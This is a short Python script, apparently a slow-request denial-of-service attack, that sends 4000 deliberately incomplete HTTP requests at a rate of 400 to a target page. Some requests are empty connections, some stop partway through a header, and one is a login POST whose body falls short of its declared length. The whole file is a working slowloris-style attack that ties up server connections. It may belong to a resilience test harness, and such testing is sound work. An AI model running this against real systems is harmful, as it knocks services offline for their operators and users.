"""Requests that never end: silent connections, half of a header, half of a body."""

from attacker import attack, crowd, target

BEGINNINGS = [
    b"",
    b"GET / HTTP/1.1\r\nHo",
    b"POST /api/v1/login HTTP/1.1\r\nHost: hub\r\nContent-Type: application/json\r\n"
    b"Content-Length: 1000\r\n\r\n{\"pass",
]

attack(crowd(target["page"], BEGINNINGS, rate=400, count=4000))
